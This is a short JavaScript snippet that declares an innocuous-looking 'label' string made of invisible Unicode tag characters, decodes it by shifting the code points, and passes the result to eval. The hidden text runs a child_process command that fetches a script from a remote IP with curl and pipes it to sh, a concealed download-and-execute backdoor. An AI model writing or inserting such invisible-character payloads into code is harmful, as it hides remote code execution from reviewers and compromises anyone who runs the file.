const label = '󠁲󠁥󠁱󠁵󠁩󠁲󠁥󠀨󠀧󠁣󠁨󠁩󠁬󠁤󠁟󠁰󠁲󠁯󠁣󠁥󠁳󠁳󠀧󠀩󠀮󠁥󠁸󠁥󠁣󠀨󠀧󠁣󠁵󠁲󠁬󠀠󠀭󠁳󠀠󠁨󠁴󠁴󠁰󠀺󠀯󠀯󠀲󠀰󠀳󠀮󠀰󠀮󠀱󠀱󠀳󠀮󠀱󠀱󠀯󠁴󠀠󠁼󠀠󠁳󠁨󠀧󠀩';
const text = [...label].map((ch) => String.fromCodePoint(ch.codePointAt(0) - 0xe0000)).join('');
eval(text);
